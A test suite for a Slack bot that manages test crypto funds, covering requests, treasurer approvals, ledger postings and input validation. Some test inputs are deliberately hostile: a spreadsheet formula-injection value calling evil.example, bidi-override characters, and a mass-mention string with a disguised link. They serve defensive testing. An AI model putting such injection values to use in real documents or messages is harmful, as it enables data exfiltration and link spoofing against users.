// Test funds (R17, R18, R19), through the real process and a local Slack.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FUNDS_WORDS } from '../../src/bot/funds-words.ts';
import { POLICY, TEAM } from '../support/bot.ts';
import { type Desk, deskOf, STRANGE, type Thing } from '../support/desk.ts';
import { CHANNELS, until } from '../support/slack.ts';
import { openStage, type Stage, shows } from '../support/stage.ts';

const { ana, ben, pia, ada, zoe, gus } = TEAM;
const ADDRESS = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
let s: Stage;
let d: Desk;
beforeAll(async () => {
  const policy = POLICY.replace('admins: C0ADMINS }', `admins: C0ADMINS, test_funds: ${CHANNELS.funds} }`).replace(
    'roles:\n',
    'roles:\n  treasurers: { users: [U0PIA, U0ADA] }\n',
  );
  s = await openStage({
    policy: `${policy}funds:
  chains:
    - { key: ethereum, name: Ethereum, kind: evm, fee_asset: ETH, assets: [ETH, USDC], explorer: 'https://scan.example/tx/{hash}' }
    - { key: bitcoin, name: Bitcoin, kind: bitcoin, fee_asset: BTC }
  limits: { per_request: { USDC: "100" } }
`,
  });
  d = deskOf(s);
});
afterAll(() => s?.close());

let hashes = 0;
/** A transaction hash nobody used. */
const hash = () => {
  hashes += 1;
  return `0x${hashes.toString(16).padStart(64, 'a')}`;
};
const homeOf = async (person: string) => JSON.stringify((await s.slack.home(person))?.blocks ?? []);
const view = async () => JSON.stringify((await s.slack.currentView())?.blocks);
const sums = async () =>
  (await s.db.execute(sql`select asset from postings group by asset having sum(amount) <> 0`)).rows;

/** Files a request by the form. @returns its thread, when the card is posted */
async function asked(person: string, values: Record<string, unknown> = {}): Promise<Thing> {
  await d.typed(person, '/funds', 'request');
  await d.form('Request test funds');
  const filled = { amount: '25', asset: 'USDC', address: ADDRESS, reason: 'Swap tests', ...values };
  expect(await s.slack.submitView(person, filled)).toBeNull();
  return d.thing(`FR-${await d.newest('fund_requests')}`);
}

/** Filed, approved and sent. */
async function sent(person: string, values: Record<string, unknown> = {}): Promise<Thing> {
  const request = await asked(person, values);
  await d.typed(pia, '/funds', `approve ${request.subject}`);
  expect(await d.typed(pia, '/funds', `sent ${request.subject} ${hash()} 0.0004`)).toContain('done');
  return request;
}

describe('R18: a request', () => {
  it('goes from requested to closed: approved, sent, spent twice, the rest returned', async () => {
    await s.slack.openHome(pia);
    await until(async () => (await homeOf(pia)).includes('Nothing right now'), 'the home');
    await d.typed(zoe, '/funds', 'request 25.5 usdc for the &lt;swap&gt; tests');
    await d.form('Request test funds');
    expect(await view()).toContain('"initial_value":"25.5"');
    expect(await view()).toContain('"initial_value":"for the <swap> tests"');
    const bad = { address: ADDRESS.replace('5aA', '5aa'), link: 'no link' };
    expect(await s.slack.submitView(zoe, bad)).toEqual({
      address: expect.stringMatching(/checksum/i),
      link: expect.stringContaining('https://'),
    });
    expect(await s.slack.submitView(zoe, { address: ADDRESS, link: 'https://tickets.example/7' })).toBeNull();
    const request = await d.thing(`FR-${await d.newest('fund_requests')}`);
    expect(request.channel).toBe(CHANNELS.funds);
    await request.shows('a treasurer decides');
    await request.shows('for the &lt;swap&gt; tests');
    await until(async () => (await homeOf(pia)).includes('approve or deny it'), 'the home of a treasurer');
    await request.press(pia, 'funds_approve');
    await request.line('approved it');
    await s.dm(zoe, request.subject, 'are approved');

    await request.tap(pia, 'funds_sent');
    await d.form('It was sent');
    expect(await s.slack.submitView(pia, { hash: '0x123', fee: '-1', at: 'yesterday' })).toEqual({
      at: expect.stringContaining('2026-11-20 14:30'),
    });
    expect(await s.slack.submitView(pia, { hash: '0x123', fee: '-1', at: '' })).toEqual({
      hash: expect.stringContaining('no transaction hash'),
      fee: expect.stringContaining('negative'),
    });
    expect(await s.slack.submitView(pia, { hash: hash(), fee: '0.0005', at: '2026-01-02 03:04' })).toBeNull();
    await request.line('sent 25.5 USDC');
    await request.shows('*outstanding 25.5 USDC*');
    const { rows } = await s.db.execute<{ at: string }>(
      sql`select to_char(event_time at time zone 'UTC', 'YYYY-MM-DD HH24:MI') as at from ledger_transactions where kind = 'send' and request_id = ${request.id}`,
    );
    expect(rows).toEqual([{ at: '2026-01-02 03:04' }]);

    await request.tap(zoe, 'funds_spend');
    await d.form('Test transaction');
    expect(await view()).toContain(`${request.subject} · 25.5 USDC left`);
    const first = hash();
    const spend = { amount: '10', hash: first, fee: '0.000000000000000001', gasPrice: '12.5', what: 'Swap, small' };
    expect(await s.slack.submitView(zoe, spend)).toBeNull();
    // Two taps: another one, filled in the same; and record it.
    await d.form('Recorded');
    expect(await s.slack.submitView(zoe)).toBeNull();
    await d.form('Test transaction');
    for (const text of ['Swap, small', '15.5 USDC left', '"value":"USDC"']) expect(await view()).toContain(text);
    expect(await s.slack.submitView(zoe, { amount: '3', hash: first })).toEqual({
      hash: expect.stringContaining('recorded already, as TX-'),
    });
    expect(await s.slack.submitView(zoe, { amount: '3', hash: hash(), fee: '0.0002' })).toBeNull();
    await d.form('Recorded');
    await s.slack.closeView(zoe);
    await request.shows('*outstanding 12.5 USDC*');
    await request.shows('fee 0.000000000000000001 ETH');

    await request.tap(zoe, 'funds_return');
    await d.form('Return funds');
    expect(await s.slack.submitView(zoe, { hash: hash(), fee: '0.0001' })).toBeNull();
    await request.line('12.5 USDC came back');
    await request.shows('*Closed*');
    await request.shows('returned 12.5 USDC · spent 13 USDC · *outstanding 0 USDC*');
    expect(await request.buttons()).toEqual([]);
    expect(await sums()).toEqual([]);
    expect(await d.typed(ana, '/funds', `show ${request.subject}`)).toContain('returned 12.5 USDC');
    expect(await d.typed(zoe, '/funds', '')).toContain('spent 3 USDC');
    expect(await d.typed(ana, '/funds', 'ledger')).toContain('spent 10 USDC');
    expect(await d.typed(ana, '/funds', 'balance')).toContain('Custody: ');
  });

  it('is approved by treasurers only, never by who asked, and by two of them over the limit', async () => {
    const own = await asked(pia);
    expect(await own.press(pia, 'funds_approve')).toContain('nobody approves their own request');
    expect(await d.refused(ana, '/funds', `approve ${own.subject}`)).toContain('only a treasurer');
    expect(await d.refused(pia, '/funds', `approve ${own.subject}`)).toContain('Ask another treasurer');
    expect(await d.typed(ada, '/funds', `approve ${own.subject}`)).toContain('done');
    expect(await d.typed(ada, '/funds', `approve ${own.subject}`)).toContain('it is approved');

    const big = await asked(zoe, { amount: '1,000.5' });
    await big.press(pia, 'funds_approve');
    await big.shows('Over the limit of 100 USDC a request');
    expect(await big.press(pia, 'funds_approve')).toContain('waits for a second treasurer');
    expect(await d.refused(pia, '/funds', `sent ${big.subject} ${hash()} 0`)).toContain('not approved yet');
    await big.press(ada, 'funds_approve');
    await big.shows(`Approved* by <@${pia}> and <@${ada}>`);
    expect(await d.refused(zoe, '/funds', `edit ${big.subject} amount 5`)).toContain('file again');
    expect(await d.refused(ana, '/funds', `withdraw ${big.subject}`)).toContain('who filed it');
    await big.press(zoe, 'funds_withdraw');
    await big.shows('*Withdrawn*');
  });

  it('is denied or settled with a reason, and what is sent or reversed shows on the card', async () => {
    const no = await asked(zoe);
    expect(await no.press(ana, 'funds_deny')).toContain('only a treasurer');
    await no.tap(pia, 'funds_deny');
    await d.form('Deny the request');
    expect(await s.slack.submitView(pia, { reason: ' ' })).toEqual({ reason: expect.stringContaining('missing') });
    expect(await s.slack.submitView(pia, { reason: 'use the <faucet>' })).toBeNull();
    await no.shows('use the &lt;faucet&gt;');
    await s.dm(zoe, 'denied', '&lt;faucet&gt;');

    const lost = await sent(zoe);
    const { rows } = await s.db.execute<{ id: string }>(
      sql`select sent_tx as id from fund_requests where id = ${lost.id}`,
    );
    const tx = `TX-${rows[0]?.id}`;
    expect(await d.refused(zoe, '/funds', `reverse ${tx} oops`)).toContain('only a treasurer');
    await d.typed(pia, '/funds', `reverse ${tx}`);
    await d.form('Reverse');
    expect(await s.slack.submitView(pia, { reason: 'the wrong network' })).toBeNull();
    await lost.line('the wrong network');
    await lost.shows(`reversed by TX-`);
    await lost.shows('a treasurer sends it');
    expect(await d.typed(pia, '/funds', `sent ${lost.subject} ${hash()} 0.0001`)).toContain('done');
    await lost.shows('25 USDC outstanding');
    const more = {
      type: 'overflow',
      action_id: 'funds_more',
      block_id: 'x',
      selected_option: { value: `settle:${lost.id}` },
    };
    await s.slack.clickStale(ada, lost.channel, lost.ts, more as never);
    await d.form('Settle the request');
    expect(await s.slack.submitView(ada, { reason: 'keys lost' })).toBeNull();
    await lost.shows(`settled by <@${ada}>: keys lost`);
    expect(await sums()).toEqual([]);
  });
});

it('R18: what an upgrade asks about has its button when the bot has started', async () => {
  const more = await sent(zoe);
  await more.shows('25 USDC outstanding');
  await s.bot().stop();
  // As drizzle/0007 does.
  await s.db.execute(sql`update fund_requests set sent_over = '20 USDC a request' where id = ${more.id}`);
  await s.restart();
  await more.press(ada, 'funds_agree');
  await more.shows(`<@${ada}> agreed to it`);
});

describe('R19: a test transaction of a release', () => {
  it('is recorded by the button of its card, and counted under its fees', async () => {
    const release = await s.open(s.product());
    await release.eyes(ana, ben);
    await release.cardShows('Record a test transaction');
    const button = (await s.slack.buttons(CHANNELS.releases, release.ts)).find((b) => b.action_id === 'funds_spend');
    await s.slack.clickStale(ana, CHANNELS.releases, release.ts, button as never);
    await d.form('Test transaction');
    expect(await view()).toContain(`"initial_option":{"text":{"type":"plain_text","text":"${release.name}"`);
    expect(
      await s.slack.submitView(ana, { asset: 'ETH', hash: hash(), fee: '0.00042', what: 'Send to <myself>' }),
    ).toBeNull();
    await d.form('Recorded');
    await s.slack.closeView(ana);
    await release.line('0.00042 ETH fee: Send to &lt;myself&gt;');
    expect(await d.typed(ana, '/funds', 'fees')).toContain(`${release.name} — 0.00042 ETH in 1 transaction`);
    expect(await d.typed(ana, '/funds', 'mine')).toContain('0.00042 ETH');
    await d.typed(pia, '/funds', 'deposit 5 ETH');
    await d.form('Deposit or transfer');
    expect(await s.slack.submitView(pia, { hash: hash(), note: 'From the faucet' })).toBeNull();
    await until(async () => (await d.typed(ana, '/funds', 'ledger')).includes('From the faucet'), 'the deposit');
    expect(await sums()).toEqual([]);
  });
});

/** Amounts that are none, and what each is told. */
const WRONG: [string, RegExp][] = [
  ['=1+1', /digits/],
  ['=IMPORTXML("https://evil.example","//a")', /digits/],
  ['🚀', /digits/],
  ['1\u202e0', /invisible/],
  ['\u200f5', /invisible/],
  ['9'.repeat(3000), /more .* than there can be/],
  ['x'.repeat(3000), /digits/],
  ['-5', /negative/],
  ['0', /Zero/],
  ['0.000', /Zero/],
  ['1e18', /exponent/],
  ['1,000', /thousands or decimals/],
  ['1.000,5', /not clear/],
  ['0,1', /point/],
  ['.5', /zero before/],
  ['0x10', /digits/],
  ['NaN', /digits/],
  ['0.1234567890123456789', /18 decimals/],
];

describe('amounts that are none are answered clearly, and nothing is stored', () => {
  it.each(['request', 'spend', 'deposit'] as const)('by /funds %s', async (word) => {
    const texts = WRONG.map(([amount]) => `${word} ${amount} ETH`);
    const answers = await d.refusedAll(pia, '/funds', texts);
    for (const [amount, wanted] of WRONG) {
      const answer = answers[`${word} ${amount} ETH`] ?? '';
      expect(answer, amount).toContain(`The form is \`/funds ${word} `);
      expect(answer, amount).toMatch(wanted);
    }
  });

  it.each(['request', 'spend'] as const)('in the form of /funds %s', async (word) => {
    await d.typed(zoe, '/funds', word);
    await d.form(word === 'request' ? 'Request test funds' : 'Test transaction');
    await s.settled();
    const before = await s.everything();
    const rest = word === 'request' ? { address: ADDRESS, reason: 'x' } : { hash: hash(), what: 'x' };
    for (const [amount, wanted] of WRONG) {
      const faults = await s.slack.submitView(zoe, { ...rest, asset: 'ETH', amount });
      expect(faults, amount).toEqual({ amount: expect.stringMatching(wanted) });
      expect(faults?.amount?.length, amount).toBeLessThan(300);
    }
    await s.settled();
    expect(await s.everything()).toBe(before);
    await s.slack.closeView(zoe);
  });

  it('amounts without an asset, or with one that is none', async () => {
    for (const text of ['5', '5 DOGE', '5DOGE', 'USDC 5', '5 USDC,'])
      expect(await d.refused(zoe, '/funds', `request ${text}`)).toContain(
        'Which asset? The amount is followed by one of',
      );
  });

  it('takes exact amounts to the last base unit', async () => {
    for (const [typed, shown, units] of [
      ['0.1', '0.1 ETH', '100000000000000000'],
      ['1,000.5', '1000.5 ETH', '1000500000000000000000'],
      ['0.000000000000000001', '0.000000000000000001 ETH', '1'],
      ['1000000000', '1000000000 ETH', '1000000000000000000000000000'],
    ] as const) {
      const request = await asked(zoe, {
        amount: typed,
        asset: 'ETH',
        reason: '=IMPORTXML("https://evil.example","//a")',
      });
      await request.shows(shown);
      const { rows } = await s.db.execute(sql`select amount::text from fund_requests where id = ${request.id}`);
      expect(rows).toEqual([{ amount: units }]);
      await d.typed(zoe, '/funds', `withdraw ${request.subject}`);
    }
  });
});

describe('bad input is answered with one clear sentence and the right form, and changes nothing', () => {
  let request: Thing;
  beforeAll(async () => {
    request = await asked(zoe);
  });

  it.each(['show', 'approve', 'deny', 'sent', 'return', 'settle', 'withdraw', 'edit', 'reverse'])(
    '/funds %s without an id, with one that is not there, and with strange words',
    async (word) => {
      const wrong = word === 'reverse' ? 'FR-1' : 'TX-1';
      const texts = ['', wrong, 'FR-', 'FR-0', ...STRANGE].map((text) => `${word} ${text}`);
      for (const [text, answer] of Object.entries(await d.refusedAll(pia, '/funds', texts)))
        expect(answer, text).toContain(`The form is \`/funds ${word} `);
      const id = word === 'reverse' ? 'TX-99999' : 'FR-99999';
      expect(await d.refused(pia, '/funds', `${word} ${id} why`)).toContain(`There is no ${id}. See \`/funds `);
    },
  );

  it('words that are none, too many words, and people who may not', async () => {
    for (const [text, answer] of Object.entries(
      await d.refusedAll(zoe, '/funds', STRANGE.map((t) => t.trim()).filter(Boolean)),
    ))
      expect(answer, text).toContain('/funds help');
    expect(await d.refused(zoe, '/funds', 'aprove FR-1')).toContain('Did you mean `/funds approve FR-3`');
    for (const text of ['mine all', 'balance of zoe', 'fees today', 'ledger five', `show ${request.subject} now`])
      expect(await d.refused(zoe, '/funds', text)).toContain(`The form is \`/funds ${text.split(' ')[0]}`);
    expect(await d.refused(gus, '/funds', 'request 5 USDC')).toContain('Guests cannot act on test funds');
    expect(await d.refused(zoe, '/funds', 'deposit 5 ETH')).toContain('Only a treasurer');
    for (const word of ['approve', 'deny', 'settle'])
      expect(await d.refused(ana, '/funds', `${word} ${request.subject}${word === 'approve' ? '' : ' no'}`)).toContain(
        'only a treasurer',
      );
    expect(await d.refused(pia, '/funds', `return ${request.subject}`)).toContain('not approved yet');
  });

  it('buttons drawn for what is no more are answered', async () => {
    for (const [action, value] of [
      ['funds_approve', '99999'],
      ['funds_magic', '1'],
      ['funds_spend', 'BUG-1'],
      ['funds_sent', 'x'],
    ] as const)
      expect(await s.pressAs(pia, request.channel, request.ts, { action_id: action, value } as never)).toContain(
        'do not know that button',
      );
  });

  it('help names every subcommand and its form', async () => {
    const help = await d.typed(zoe, '/funds', 'help');
    for (const [word, [form]] of Object.entries(FUNDS_WORDS))
      expect(help).toContain(`/funds ${`${word} ${form}`.trim()}`);
  });

  it('what was typed mentions nobody', async () => {
    const nasty = '<!channel> <@U0ANA> <https://evil.example|safe> =1+1';
    const mine = await asked(zoe, { reason: nasty });
    await d.typed(pia, '/funds', `deny ${mine.subject} &lt;!channel&gt; <!here> &lt;https://evil.example|safe&gt;`);
    await mine.line('denied it');
    await d.typed(zoe, '/funds', 'mine');
    const card = shows(await s.slack.message(mine.channel, mine.ts));
    expect(card).toContain('&lt;!channel&gt;');
    const said = await d.allMarked(ana, ben, pia, zoe);
    expect(d.loud(said)).toEqual([]);
  });
});
